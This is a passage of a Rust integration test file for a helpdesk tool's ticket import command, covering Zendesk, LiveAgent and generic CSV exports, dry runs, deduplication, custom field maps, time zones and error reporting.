        stderr.starts_with(&format!("skipped {path}: line 4 (byte ")),
        "{stderr}"
    );
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
    assert_eq!(
        ids_by_source(&env).keys().collect::<Vec<_>>(),
        ["zendesk:101", "zendesk:102", "zendesk:103", "zendesk:104"]
    );
    assert_eq!(env.commits(), commits + 4);
    assert_eq!(env.git(&["status", "--porcelain"]), "");
}

/// Line 4 starts after 12,473 bytes: the place of a bad line is where it
/// starts (bytes before it), as for a CSV row, not one byte into it.
#[test]
fn a_bad_jsonl_line_is_placed_at_its_first_byte() {
    let env = TestEnv::new();
    let path = sample("zendesk/bad-line.jsonl");
    let before: usize = fixture("import/zendesk/bad-line.jsonl")
        .split_inclusive('\n')
        .take(3)
        .map(str::len)
        .sum();
    assert_eq!(before, 12_473);
    let stderr = refused(&env, &["import", "zendesk", &path], 1);
    assert!(
        stderr.starts_with(&format!("error: {path}: line 4 (byte {before}): ")),
        "{stderr}"
    );
}

#[test]
fn a_missing_file_or_a_directory_is_refused_and_nothing_is_written() {
    let env = TestEnv::new();
    let missing = env.home().join("missing.json");
    let missing = missing.to_str().unwrap();
    let page = sample("zendesk/page.json");
    let stderr = refused(&env, &["import", "zendesk", &page, missing], 1);
    assert!(stderr.contains(missing), "{stderr}");
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
    let dir = sample("zendesk");
    let stderr = refused(&env, &["import", "zendesk", &dir], 1);
    assert!(stderr.contains("not a file"), "{stderr}");
    let stderr = refused(&env, &["import", "liveagent", missing], 1);
    assert!(stderr.contains(missing), "{stderr}");
    assert_eq!(env.json(&["list", "--all", "--format", "json"]), json!([]));
    // No file at all is a usage error.
    refused(&env, &["import", "zendesk"], 2);
}

#[test]
fn a_dry_run_counts_what_would_be_imported_and_writes_nothing() {
    let env = TestEnv::new();
    let page = sample("zendesk/page.json");
    let refs = env.git(&["for-each-ref"]);
    let head = env.head();
    let out = import(&env, &["zendesk", &page, "--dry-run"]);
    assert_eq!(
        out,
        "Would import 9 tickets: 9 new, 0 updated, 0 unchanged.\n"
    );
    let report = import_json(&env, &["zendesk", &page, "--dry-run"]);
    assert_eq!(report["dry_run"], true);
    assert_eq!(report["records"], 9);
    assert_eq!(report["created"].as_array().unwrap().len(), 9);
    assert_eq!(env.head(), head);
    assert_eq!(env.git(&["for-each-ref"]), refs);
    assert_eq!(env.git(&["status", "--porcelain", "--ignored"]), "");
    assert_eq!(env.json(&["list", "--all", "--format", "json"]), json!([]));
    // The ids it names are the ones the import then makes.
    let real = import_json(&env, &["zendesk", &page]);
    assert_eq!(real["dry_run"], false);
    assert_eq!(sorted(&real["created"]), sorted(&report["created"]));
    // A dry run of the newer page names the changes it would make.
    let head = env.head();
    let out = import(
        &env,
        &["zendesk", &sample("zendesk/page-newer.json"), "--dry-run"],
    );
    assert_eq!(
        out,
        "Would import 10 tickets: 1 new, 2 updated, 7 unchanged.\n"
    );
    assert_eq!(env.head(), head);
    assert_eq!(ids_by_source(&env).len(), 9);
}

// ------------------------------------------------------------- JSON report

#[test]
fn the_json_report_names_every_part_of_a_run() {
    let env = TestEnv::new();
    import(&env, &["zendesk", &sample("zendesk/page.json")]);
    let report = import_json(&env, &["zendesk", &sample("zendesk/page-newer.json")]);
    let ids = ids_by_source(&env);
    let keys: Vec<&String> = report.as_object().unwrap().keys().collect();
    let mut want = vec![
        "created",
        "dry_run",
        "not_committed",
        "records",
        "skipped",
        "unchanged",
        "updated",
    ];
    want.sort_unstable();
    let mut keys: Vec<&str> = keys.iter().map(|k| k.as_str()).collect();
    keys.sort_unstable();
    assert_eq!(keys, want);
    let mut report = report;
    for key in ["created", "updated"] {
        report[key] = json!(sorted(&report[key]));
    }
    let updated = sorted_ids(&[&ids["zendesk:104"], &ids["zendesk:107"]]);
    assert_eq!(
        report,
        json!({
            "dry_run": false,
            "records": 10,
            "created": [ids["zendesk:110"]],
            "updated": updated,
            "unchanged": 7,
            "skipped": [],
            "not_committed": {},
        })
    );
}

/// The same tickets in two files of one export (page-newer.json and
/// tickets-only.json both hold 101-103, as they were) are each one ticket:
/// 10 tickets, of which 7 unchanged, not 13 counts.
#[test]
fn a_ticket_listed_twice_in_one_export_counts_once() {
    let env = TestEnv::new();
    import(&env, &["zendesk", &sample("zendesk/page.json")]);
    let report = import_json(
        &env,
        &[
            "zendesk",
            &sample("zendesk/page-newer.json"),
            &sample("zendesk/tickets-only.json"),
            &sample("zendesk/comments.jsonl"),
        ],
    );
    assert_eq!(report["created"].as_array().unwrap().len(), 1, "{report}");
    assert_eq!(report["updated"].as_array().unwrap().len(), 2, "{report}");
    assert_eq!(report["records"], 10, "{report}");
    assert_eq!(report["unchanged"], 7, "{report}");
}

/// bad-line.jsonl holds tickets 101-104 as page.json does, but without
/// the users side-load: importing it after page.json must not add every
/// comment a second time under a `Zendesk user N` name.
#[test]
fn the_same_tickets_without_their_users_add_no_duplicate_messages() {
    let env = TestEnv::new();
    import(&env, &["zendesk", &sample("zendesk/page.json")]);
    let before: Vec<Vec<[String; 4]>> = (101..=104)
        .map(|n| conversation(&by_source(&env, &format!("zendesk:{n}"))))
        .collect();
    import_with_stderr(
        &env,
        &["zendesk", &sample("zendesk/bad-line.jsonl"), "--skip-bad"],
    );
    for (n, before) in (101..=104).zip(before) {
        let after = conversation(&by_source(&env, &format!("zendesk:{n}")));
        assert_eq!(after.len(), before.len(), "zendesk:{n}: {after:#?}");
    }
}

// ---------------------------------------------------------- Custom fields

#[test]
fn field_map_keeps_zendesk_custom_fields_as_the_desks_fields() {
    let env = TestEnv::new();
    configure(
        &env,
        "[[field]]\nname = \"plan\"\ntype = \"choice\"\nchoices = [\"plan_basic\", \"plan_pro\", \"plan_enterprise\"]\n\n\
         [[field]]\nname = \"order\"\ntype = \"number\"\n",
    );
    // A field the form lacks, or a map that is not ID=NAME: usage errors.
    let page = sample("zendesk/page.json");
    let stderr = refused(
        &env,
        &[
            "import",
            "zendesk",
            &page,
            "--field-map",
            "360014452711=tier",
        ],
        2,
    );
    assert!(stderr.contains("'tier'"), "{stderr}");
    refused(
        &env,
        &["import", "zendesk", &page, "--field-map", "360014452711"],
        2,
    );
    refused(
        &env,
        &["import", "zendesk", &page, "--field-map", "plan=plan"],
        2,
    );
    assert_eq!(env.json(&["list", "--all", "--format", "json"]), json!([]));

    import(
        &env,
        &[
            "zendesk",
            &page,
            "--field-map",
            "360014452711=plan,360014452731=order",
        ],
    );
    let fields = |n: u64| by_source(&env, &format!("zendesk:{n}"))["fields"].clone();
    assert_eq!(fields(104), json!({"plan": "plan_pro", "order": 61402}));
    assert_eq!(
        fields(107),
        json!({"plan": "plan_enterprise", "order": 12345})
    );
    assert_eq!(fields(102), json!({"plan": "plan_basic"}));
    assert_eq!(fields(101), json!({}), "null values are left out");
    let id = id_of(&env, "zendesk:104");
    let file = env.read_ticket_file(&id);
    assert!(
        file.contains("plan = \"plan_pro\"") && file.contains("order = 61402"),
        "{file}"
    );
    let found = env.json(&[
        "list",
        "--all",
        "--field",
        "plan=plan_pro",
        "--format",
        "json",
    ]);
    assert_eq!(found.as_array().unwrap().len(), 1);
    assert_eq!(found[0]["id"], id.as_str());
    let page104 = env.ok(&["show", &id]);
    assert!(page104.contains("plan: plan_pro"), "{page104}");
}

#[test]
fn a_custom_field_value_the_form_refuses_names_its_ticket() {
    let env = TestEnv::new();
    configure(
        &env,
        "[[field]]\nname = \"plan\"\ntype = \"choice\"\nchoices = [\"plan_basic\", \"plan_pro\"]\n",
    );
    let page = sample("zendesk/page.json");
    let args = [
        "import",
        "zendesk",
        &page,
        "--field-map",
        "360014452711=plan",
    ];
    let stderr = refused(&env, &args, 1);
    assert!(
        stderr.contains("zendesk:107") && stderr.contains("plan_enterprise"),
        "{stderr}"
    );
    let (out, stderr) = import_with_stderr(
        &env,
        &[
            "zendesk",
            &page,
            "--field-map",
            "360014452711=plan",
            "--skip-bad",
        ],
    );
    assert!(out.ends_with("; 1 part skipped.\n"), "{out}");
    assert!(stderr.contains("zendesk:107"), "{stderr}");
    let ids = ids_by_source(&env);
    assert_eq!(ids.len(), 8);
    assert!(!ids.contains_key("zendesk:107"));
}

// ------------------------------------------------------------- LiveAgent

#[test]
fn liveagent_csv_maps_every_status_code_names_tags_and_times() {
    let env = TestEnv::new();
    let out = import(&env, &["liveagent", &sample("liveagent/tickets.csv")]);
    assert_eq!(
        out,
        "Imported 12 tickets: 12 new, 0 updated, 0 unchanged.\n"
    );
    let la = |code: &str| by_source(&env, &format!("liveagent:{code}"));
    let statuses = [
        ("QHV-TRWMK-118", "A", "answered", None),
        ("BZN-XKQPD-274", "N", "new", None),
        ("JPE-LMVRA-335", "T", "open", None),
        ("WQC-HFDZS-402", "I", "open", None),
        ("TKS-NBYUE-519", "P", "open", None),
        ("MRA-QPWNC-630", "C", "open", None),
        ("GDL-VZTXK-744", "W", "postponed", None),
        ("YHU-RBCMA-851", "R", "resolved", None),
        ("NVE-STGQW-963", "L", "closed", None),
        ("KCJ-PMZYE-170", "B", "closed", Some("spam")),
        ("ZLW-HAXNU-281", "X", "closed", Some("deleted")),
        ("EUF-CDKVB-392", "R", "resolved", None),
    ];
    assert_eq!(ids_by_source(&env).len(), statuses.len());
    for (code, letter, status, reason) in statuses {
        let t = la(code);
        assert_eq!(t["status"], status, "{code} ({letter})");
        let last = history(&t).pop().unwrap();
        assert_eq!(last.4, json!(reason), "{code} ({letter})");
    }
    // L was solved first; B and X were closed without a solution.
    let steps =
        |code: &str| -> Vec<Value> { history(&la(code)).into_iter().map(|h| h.3).collect() };
    assert_eq!(
        steps("NVE-STGQW-963"),
        [json!("new"), json!("resolved"), json!("closed")]
    );
    assert_eq!(steps("KCJ-PMZYE-170"), [json!("new"), json!("closed")]);
    assert_eq!(env.commits(), 1 + 12);
    assert_eq!(env.git(&["status", "--porcelain"]), "");
}

#[test]
fn liveagent_csv_keeps_names_addresses_tags_previews_and_times() {
    let env = TestEnv::new();
    import(&env, &["liveagent", &sample("liveagent/tickets.csv")]);
    let la = |code: &str| by_source(&env, &format!("liveagent:{code}"));
    // Names from First/Last Name, the first of several addresses.
    let t = la("QHV-TRWMK-118");
    assert_eq!(
        t["customer"],
        json!({"name": "Jan Dvořák", "email": "jan.dvorak@example.cz", "phone": null})
    );
    assert_eq!(t["subject"], "Faktura č. 2024-0317 – chybné DIČ");
    assert_eq!(t["assignee"], "Lucie Nováková");
    assert_eq!(t["department"], "Billing");
    assert_eq!(t["tags"], json!(["billing"]));
    assert_eq!(t["created"], "2024-03-05T09:12:44Z");
    assert_eq!(t["updated"], "2024-03-05T10:02:11Z");
    assert_eq!(la("MRA-QPWNC-630")["customer"]["name"], "健 佐藤");
    assert_eq!(la("NVE-STGQW-963")["customer"]["name"], "ليلى حمادة");
    let emily = la("BZN-XKQPD-274");
    assert_eq!(
        emily["customer"],
        json!({"name": "Emily Carter", "email": "emily.carter@example.co.uk", "phone": "+447700900123"})
    );
    assert_eq!(emily["assignee"], Value::Null);
    // The preview with quotes and a CRLF inside its quotes: a note at the
    // last change (whoever wrote the latest message).
    assert_eq!(
        conversation(&emily),
        [[
            "note".to_owned(),
            "liveagent".to_owned(),
            "2024-04-11T18:40:03Z".to_owned(),
            "The latest message, as the export previews it:\n\nHi, the tracking page says \"delivered\", but nothing was left at my door,\nand my neighbours haven't seen it either. Can you check?".to_owned(),
        ]]
    );
    // Tags split; a subject with a comma and quotes; a department with &.
    assert_eq!(la("MRA-QPWNC-630")["tags"], json!(["lang_ja", "shipping"]));
    assert_eq!(la("EUF-CDKVB-392")["tags"], json!(["vip", "warranty"]));
    let partner = la("GDL-VZTXK-744");
    assert_eq!(
        partner["subject"],
        "Partnership proposal, Q3 2025 – \"Outdoor Week\""
    );
    assert_eq!(partner["department"], "Sales & Partnerships");
    // Visitors without a name or an address keep their system name; a
    // row without a preview has no message.
    assert_eq!(la("JPE-LMVRA-335")["customer"]["name"], "Visitor 58213");
    assert_eq!(
        conversation(&la("WQC-HFDZS-402")),
        Vec::<[String; 4]>::new()
    );
    assert_eq!(la("TKS-NBYUE-519")["customer"]["phone"], "+420601234567");
    // The commit is Jan's, at the row's change date.
    let id = id_of(&env, "liveagent:QHV-TRWMK-118");
    let [an, ae, at, cn, ..] = commit_of(&env, &id);
    assert_eq!(
        (an.as_str(), ae.as_str()),
        ("Jan Dvořák", "jan.dvorak@example.cz")
    );
    assert_eq!(at.parse::<i64>().unwrap(), unix("2024-03-05T10:02:11Z"));
    assert_eq!(cn, "Ana Lima");
}

#[test]
fn liveagent_times_are_read_in_the_given_zone() {
    let utc = TestEnv::new();
    import(&utc, &["liveagent", &sample("liveagent/tickets.csv")]);
    let prague = TestEnv::new();
    import(
        &prague,
        &[
            "liveagent",
            &sample("liveagent/tickets.csv"),
            "--timezone",
            "Europe/Prague",
        ],
    );
    // Winter: UTC+1; summer: UTC+2.
    let t = by_source(&prague, "liveagent:QHV-TRWMK-118");
    assert_eq!(t["created"], "2024-03-05T08:12:44Z");
    assert_eq!(t["updated"], "2024-03-05T09:02:11Z");
    // The preview is a note at the last change.
    assert_eq!(conversation(&t)[0][2], "2024-03-05T09:02:11Z");
    let t = by_source(&prague, "liveagent:JPE-LMVRA-335");
    assert_eq!(t["created"], "2024-05-20T12:02:17Z");
    assert_eq!(
        by_source(&utc, "liveagent:JPE-LMVRA-335")["created"],
        "2024-05-20T14:02:17Z"
    );
    // The same export makes the same tickets, whatever the zone.
    assert_eq!(ids_by_source(&utc), ids_by_source(&prague));
    let stderr = refused(
        &utc,
        &[
            "import",
            "liveagent",
            &sample("liveagent/tickets.csv"),
            "--timezone",
            "Mars/Olympus",
        ],
        2,
    );
    assert!(stderr.contains("Mars/Olympus"), "{stderr}");
}

#[test]
fn a_newer_liveagent_export_updates_one_ticket_and_adds_one() {
    let env = TestEnv::new();
    import(&env, &["liveagent", &sample("liveagent/tickets.csv")]);
    let old = by_source(&env, "liveagent:QHV-TRWMK-118");
    let commits = env.commits();
    let report = import_json(&env, &["liveagent", &sample("liveagent/tickets-newer.csv")]);
    let ids = ids_by_source(&env);
    assert_eq!(report["records"], 13);
    assert_eq!(report["created"], json!([ids["liveagent:FRX-WNJTA-507"]]));
    assert_eq!(report["updated"], json!([ids["liveagent:QHV-TRWMK-118"]]));
    assert_eq!(report["unchanged"], 11);
    assert_eq!(env.commits(), commits + 2);
    let t = by_source(&env, "liveagent:QHV-TRWMK-118");
    assert_eq!(t["status"], "resolved");
    assert_eq!(t["updated"], "2024-03-08T07:45:00Z");
    let mut expected = history(&old);
    expected.push((
        json!("2024-03-08T07:45:00Z"),
        json!("import"),
        json!("answered"),
        json!("resolved"),
        Value::Null,
    ));
    assert_eq!(history(&t), expected);
    assert!(
        conversation(&t)
            .iter()
            .any(|m| m[3].ends_with("Děkuji, opravená faktura je v pořádku.")),
        "{:?}",
        conversation(&t)
    );
    let lucia = by_source(&env, "liveagent:FRX-WNJTA-507");
    assert_eq!(lucia["status"], "new");
    assert_eq!(lucia["customer"]["name"], "Lucía Ruiz");
    assert_eq!(lucia["subject"], "Cambio de talla, pedido 9120");
    let head = env.head();
    let out = import(&env, &["liveagent", &sample("liveagent/tickets-newer.csv")]);
    assert_eq!(
        out,
        "Imported 13 tickets: 0 new, 0 updated, 13 unchanged.\n"
    );
    assert_eq!(env.head(), head);
}

/// The newer export's preview is the customer's thank-you, written after
/// the agent's answer of 2024-03-05 10:02:11: a message that first shows
/// up in a later export is not dated back to the ticket's creation.
#[test]
fn a_newer_liveagent_preview_is_not_dated_before_the_earlier_export() {
    let env = TestEnv::new();
    import(&env, &["liveagent", &sample("liveagent/tickets.csv")]);
    import(&env, &["liveagent", &sample("liveagent/tickets-newer.csv")]);
    let t = by_source(&env, "liveagent:QHV-TRWMK-118");
    let thanks = conversation(&t)
        .into_iter()
        .find(|m| m[3].ends_with("Děkuji, opravená faktura je v pořádku."))
        .unwrap();
    assert!(
        thanks[2].as_str() >= "2024-03-05T10:02:11Z",
        "the new preview is dated {} (the ticket's creation)",
        thanks[2]
    );
}

#[test]
fn a_liveagent_row_with_an_unclosed_quote_is_refused_and_skip_bad_takes_the_rows_before() {
    let env = TestEnv::new();
    let path = sample("liveagent/bad.csv");
    let stderr = refused(&env, &["import", "liveagent", &path], 1);
    assert!(
        stderr.starts_with(&format!(
            "error: {path}: line 4 (byte 907): ticket YHU-RBCMA-851: "
        )),
        "{stderr}"
    );
    assert!(stderr.contains("never closed"), "{stderr}");
    assert!(stderr.contains("nothing was imported"), "{stderr}");
    assert_eq!(env.json(&["list", "--all", "--format", "json"]), json!([]));

    let out = env.tix(&[
        "import",
        "liveagent",
        &path,
        "--skip-bad",
        "--format",
        "json",
    ]);
    assert!(out.status.success());
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.starts_with(&format!(
            "skipped {path}: line 4 (byte 907): ticket YHU-RBCMA-851: "
        )),
        "{stderr}"
    );
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    let skipped = &report["skipped"];
    assert_eq!(skipped.as_array().unwrap().len(), 1, "{report}");
    assert_eq!(skipped[0]["line"], 4);
    assert_eq!(skipped[0]["byte"], 907);
    assert_eq!(skipped[0]["id"], "YHU-RBCMA-851");
    let ids = ids_by_source(&env);
    assert!(ids.contains_key("liveagent:QHV-TRWMK-118"), "{ids:?}");
    assert!(ids.contains_key("liveagent:JPE-LMVRA-335"), "{ids:?}");
    assert!(!ids.contains_key("liveagent:YHU-RBCMA-851"), "{ids:?}");
    // No ticket swallowed the broken row's text.
    for id in ids.values() {
        for message in conversation(&env.show(id)) {
            assert!(!message[3].contains("ignition"), "{message:?}");
        }
    }
    assert_eq!(env.git(&["status", "--porcelain"]), "");
}

// ------------------------------------------------------------ Any CSV

const FRESHDESK_MAP: &str = "id=Ticket Id,subject=Subject,body=Description,status=Status,\
    priority=Priority,name=Requester Name,email=Requester Email,phone=Requester Phone,\
    assignee=Agent,department=Group,tags=Tags,created=Created Time,updated=Last Updated Time";

#[test]
fn a_freshdesk_csv_comes_in_through_a_map() {
    let env = TestEnv::new();
    let path = sample("csv/freshdesk.csv");
    let out = import(
        &env,
        &[
            "csv",
            &path,
            "--map",
            FRESHDESK_MAP,
            "--source",
            "freshdesk",
        ],
    );
    assert_eq!(out, "Imported 6 tickets: 6 new, 0 updated, 0 unchanged.\n");
    let ids = ids_by_source(&env);
    let sources: Vec<String> = (1042..=1047).map(|n| format!("freshdesk:{n}")).collect();
    assert_eq!(ids.keys().cloned().collect::<Vec<_>>(), sources);
    let fd = |n: u32| by_source(&env, &format!("freshdesk:{n}"));
    for (n, status, priority) in [
        (1042, "resolved", "normal"),
        (1043, "answered", "high"),
        (1044, "closed", "low"),
        (1045, "answered", "urgent"),
        (1046, "open", "normal"),
        (1047, "open", "high"),
    ] {
        let t = fd(n);
        assert_eq!(
            (t["status"].clone(), t["priority"].clone()),
            (json!(status), json!(priority)),
            "{n}"
        );
    }
    let steps: Vec<Value> = history(&fd(1044)).into_iter().map(|h| h.3).collect();
    assert_eq!(steps, [json!("new"), json!("resolved"), json!("closed")]);
    let t = fd(1042);
    assert_eq!(t["created"], "2024-02-12T09:14:05Z");
    assert_eq!(t["updated"], "2024-02-13T16:40:22Z");
    assert_eq!(t["assignee"], "Sam Okoye");
    assert_eq!(t["department"], "Customer Care");
    assert_eq!(t["tags"], json!(["exchange", "shoes"]));
    assert_eq!(t["customer"]["email"], "hannah.becker@example.de");
    let file = env.read_ticket_file(&ids["freshdesk:1042"]);
    assert!(file.contains("source = \"freshdesk:1042\""), "{file}");
    // HTML description as text.
    let body = &conversation(&fd(1043))[0][3];
    assert!(
        body.contains(
            "I returned order 20977 on 2 March and still have no refund.\nTracking: RR123456789DE"
        ),
        "{body}"
    );
    assert!(body.contains("Thanks & regards"), "{body}");
    for bad in ["<", ">", "&amp;", "href"] {
        assert!(!body.contains(bad), "{bad} in {body}");
    }
    // No address: the ticket still comes in, with the name and phone.
    let t = fd(1044);
    assert_eq!(
        t["customer"],
        json!({"name": "Lars Eriksen", "email": null, "phone": "+47 400 12 345"})
    );
    assert_eq!(
        conversation(&t)[0][3],
        "Pole section 3 snapped on the first night. Photos attached.\nIs this covered?"
    );
    assert_eq!(
        fd(1045)["subject"],
        "Invoice address \"Kestrel AB, Box 12\" is wrong"
    );
    let t = fd(1046);
    assert_eq!(t["assignee"], Value::Null);
    assert_eq!(t["customer"]["name"], "山本 花子");
    assert_eq!(fd(1047)["subject"], "Stove recall question 🔥");
    // Again: nothing.
    let head = env.head();
    let out = import(
        &env,
        &[
            "csv",
            &path,
            "--map",
            FRESHDESK_MAP,
            "--source",
            "freshdesk",
        ],
    );
    assert_eq!(out, "Imported 6 tickets: 0 new, 0 updated, 6 unchanged.\n");
    assert_eq!(env.head(), head);
}

#[test]
fn a_csv_map_without_an_id_or_with_a_missing_column_is_refused() {
    let env = TestEnv::new();
    let path = sample("csv/freshdesk.csv");
    let stderr = refused(
        &env,
        &[
            "import",
            "csv",
            &path,
            "--map",
            "subject=Subject,created=Created Time",
        ],
        2,
    );
    assert!(stderr.contains("id=COLUMN"), "{stderr}");
    let stderr = refused(
        &env,
        &[
            "import",
            "csv",
            &path,
            "--map",
            "id=Ticket Id,subject=Nope,created=Created Time",
        ],
        1,
    );
    assert!(stderr.contains("'Nope'"), "{stderr}");
    refused(
        &env,
        &[
            "import",
            "csv",
            &path,
            "--map",
            "id=Ticket Id,colour=Subject,created=Created Time",
        ],
        2,
    );
    refused(&env, &["import", "csv", &path, "--map", "id"], 2);
    refused(&env, &["import", "csv", &path], 2);
    refused(
        &env,
        &[
            "import",
            "csv",
            &path,
            "--map",
            "id=Ticket Id,created=Created Time",
            "--source",
            "a:b",
        ],
        2,
    );
    refused(
        &env,
        &[
            "import",
            "csv",
            &path,
            "--map",
            "id=Ticket Id,created=Created Time",
            "--timezone",
            "Nowhere",
        ],
        2,
    );
    assert_eq!(env.json(&["list", "--all", "--format", "json"]), json!([]));
    // Without --source the sources start with `csv`.
    import(
        &env,
        &[
            "csv",
            &path,
            "--map",
            "id=Ticket Id,subject=Subject,created=Created Time",
        ],
    );
    let ids = ids_by_source(&env);
    assert!(ids.contains_key("csv:1042"), "{ids:?}");
    assert_eq!(ids.len(), 6);
}

/// A ticket's JSON without its SLA state (which moves with the clock).
fn without_sla(mut ticket: Value) -> Value {
    ticket.as_object_mut().unwrap().remove("sla");
    ticket
}

/// Every ticket id and `HEAD`: what an import that changes nothing
/// leaves as it was.
fn ids_and_head(env: &TestEnv) -> (BTreeMap<String, String>, String) {
    (ids_by_source(env), env.head())
}

// ------------------------------------------------------- found in review

/// Writes an export next to the desk (not in it); returns its path.
fn export_file(env: &TestEnv, name: &str, bytes: &[u8]) -> String {
    let path = env.home().join(name);
    std::fs::write(&path, bytes).unwrap();
    path.to_str().unwrap().to_owned()
}

/// A ticket the first read skips over but the full read cannot take (an
/// escape JSON does not allow) is refused where it starts, not dropped.
#[test]
fn a_ticket_json_cannot_hold_is_refused_not_dropped() {
    let env = TestEnv::new();
    let text = concat!(
        "{\"tickets\": [\n",
        "  {\"id\": 1, \"subject\": \"One\", \"created_at\": \"2024-01-01T00:00:00Z\"},\n",
        "  {\"id\": 2, \"subject\": \"\\ud800\", \"created_at\": \"2024-01-01T00:00:00Z\"},\n",
        "  {\"id\": 3, \"subject\": \"Three\", \"created_at\": \"2024-01-01T00:00:00Z\"}\n",
        "]}\n"
    );
    let path = export_file(&env, "l1.json", text.as_bytes());
    let stderr = refused(&env, &["import", "zendesk", &path], 1);
    assert!(stderr.contains("line 3"), "{stderr}");
    let (out, stderr) = import_with_stderr(&env, &["zendesk", &path, "--skip-bad"]);
    assert!(out.contains("1 part skipped"), "{out}");
    assert_eq!(stderr.matches("skipped ").count(), 1, "{stderr}");
}

/// A ticket listed three times (unchanged, then a bad newer state, then a
/// good newer one) counts once and never below zero.
#[test]
fn a_ticket_listed_again_with_a_bad_state_between_counts_once() {
    let env = TestEnv::new();
    let map = "id=id,created=created,updated=updated,status=status,subject=subject";
    let first = export_file(
        &env,
        "a.csv",
        b"id,subject,created,updated,status\n1,One,2024-01-01,2024-01-01,open\n",
    );
    import(&env, &["csv", &first, "--map", map]);
    let again = export_file(
        &env,
        "b.csv",
        b"id,subject,created,updated,status\n\
          1,One,2024-01-01,2024-01-01,open\n\
          1,One,2024-01-01,2024-01-02,bogus\n\
          1,One,2024-01-01,2024-01-03,resolved\n",
    );
    let json = import_json(&env, &["csv", &again, "--map", map, "--skip-bad"]);
    assert_eq!(json["records"], 1, "{json}");
    assert_eq!(json["updated"].as_array().unwrap().len(), 1, "{json}");
    assert_eq!(json["unchanged"], 0, "{json}");
    assert_eq!(json["skipped"][0]["line"], 3, "{json}");
    assert_eq!(by_source(&env, "csv:1")["status"], "resolved");
}

/// Angle brackets in a plain CSV body are text, not HTML.
#[test]
fn a_plain_csv_body_keeps_its_angle_brackets() {
    let env = TestEnv::new();
    let path = export_file(
        &env,
        "c.csv",
        "id,created,body\n1,2024-01-01,Please write to <john@example.com> if a<b and c>d\n"
            .as_bytes(),
    );
    import(
        &env,
        &["csv", &path, "--map", "id=id,created=created,body=body"],
    );
    let messages = conversation(&by_source(&env, "csv:1"));
    assert_eq!(
        messages[0][3],
        "Please write to <john@example.com> if a<b and c>d"
    );
}

/// The comments file given twice, or overlapping pages, make each comment
/// one message.
#[test]
fn comments_given_twice_are_one_message_each() {
    let env = TestEnv::new();
    let comments = sample("zendesk/comments.jsonl");
    import(
        &env,
        &[
            "zendesk",
            &sample("zendesk/tickets-only.json"),
            &comments,
            &comments,
        ],
    );
    let twice = TestEnv::new();
    import(
        &twice,
        &["zendesk", &sample("zendesk/tickets-only.json"), &comments],
    );
    for source in ["zendesk:101", "zendesk:102", "zendesk:103"] {
        assert_eq!(
            conversation(&by_source(&env, source)),
            conversation(&by_source(&twice, source)),
            "{source}"
        );
    }
}

/// A newer export that closes an open ticket solves it first, as a
/// fresh import of that export does.
#[test]
fn an_update_to_closed_goes_through_resolved() {
    let env = TestEnv::new();
    let map = "id=id,created=created,updated=updated,status=status";
    let open = export_file(
        &env,
        "o.csv",
        b"id,created,updated,status\n7,2024-01-01,2024-01-01,open\n",
    );
    let closed = export_file(
        &env,
        "c.csv",
        b"id,created,updated,status\n7,2024-01-01,2024-01-05,closed\n",
    );
    import(&env, &["csv", &open, "--map", map]);
    import(&env, &["csv", &closed, "--map", map]);
    let steps: Vec<(Value, Value)> = history(&by_source(&env, "csv:7"))
        .into_iter()
        .map(|(_, _, from, to, _)| (from, to))
        .collect();
    assert_eq!(
        &steps[steps.len() - 2..],
        [
            (json!("open"), json!("resolved")),
            (json!("resolved"), json!("closed"))
        ]
    );
}

/// A committed ticket file that no longer parses still names its source:
/// importing again does not make its ticket a second time.
#[test]
fn a_broken_ticket_file_is_not_imported_twice() {
    let env = page_desk();
    let id = id_of(&env, "zendesk:101");
    let path = env.ticket_path(&id);
    let text = std::fs::read_to_string(env.path(&path)).unwrap();
    env.commit_file(&path, &format!("{text}\nbroken = [\n"));
    let page = sample("zendesk/page.json");
    let stderr = refused(&env, &["import", "zendesk", &page], 1);
    assert!(
        stderr.contains(&format!("its ticket {id} does not parse")),
        "{stderr}"
    );
    let out = import(&env, &["zendesk", &page, "--skip-bad"]);
    assert!(out.contains("0 new"), "{out}");
}

/// A record refused after it was read is placed at its own line.
#[test]
fn a_bad_record_is_placed_at_its_line() {
    let env = TestEnv::new();
    let text = concat!(
        "{\"id\": 1, \"subject\": \"One\", \"created_at\": \"2024-01-01T00:00:00Z\"}\n",
        "{\"id\": 2, \"subject\": \"Two\", \"created_at\": \"2024-01-01T00:00:00Z\"}\n",
        "{\"id\": 3, \"subject\": \"Three\", \"status\": \"weird\", \"created_at\": \"2024-01-01T00:00:00Z\"}\n",
    );
    let path = export_file(&env, "l.jsonl", text.as_bytes());
    let stderr = refused(&env, &["import", "zendesk", &path], 1);
    let third = text.find("{\"id\": 3").unwrap();
    assert!(
        stderr.contains(&format!("line 3 (byte {third})")),
        "{stderr}"
    );
}

/// A byte-order mark before Zendesk's JSON is not an error.
#[test]
fn a_zendesk_export_with_a_byte_order_mark_reads() {
    let env = TestEnv::new();
    let mut bytes = b"\xef\xbb\xbf".to_vec();
    bytes.extend_from_slice(&std::fs::read(sample("zendesk/page.json")).unwrap());
    let path = export_file(&env, "bom.json", &bytes);
    let out = import(&env, &["zendesk", &path]);
    assert_eq!(out, "Imported 9 tickets: 9 new, 0 updated, 0 unchanged.\n");
}

/// A CSV status names a custom status in any case, with spaces or
/// hyphens.
#[test]
fn a_csv_status_finds_a_custom_status_whatever_its_case() {
    let env = TestEnv::new();
    configure(
        &env,
        "[[status]]\nid = \"waiting-on-vendor\"\nlabel = \"Waiting on vendor\"\ncategory = \"on_hold\"\n",
    );
    let path = export_file(
        &env,
        "s.csv",
        b"id,created,status\n1,2024-01-01,Waiting-On-Vendor\n2,2024-01-01,waiting on vendor\n",
    );
    import(
        &env,
        &["csv", &path, "--map", "id=id,created=created,status=status"],
    );
    assert_eq!(by_source(&env, "csv:1")["status"], "waiting-on-vendor");
    assert_eq!(by_source(&env, "csv:2")["status"], "waiting-on-vendor");
}

/// `tix doctor` names two tickets that claim the same source: a later
/// import would update only one of them.
#[test]
fn doctor_names_two_tickets_with_one_source() {
    let env = page_desk();
    let other = env.new_ticket("Hand made");
    let path = env.ticket_path(&other);
    let text = std::fs::read_to_string(env.path(&path)).unwrap();
    let text = text.replacen(
        "subject = \"Hand made\"\n",
        "subject = \"Hand made\"\nsource = \"zendesk:101\"\n",
        1,
    );
    env.commit_file(&path, &text);
    let out = env.tix(&["doctor"]);
    assert!(!out.status.success());
    let report =
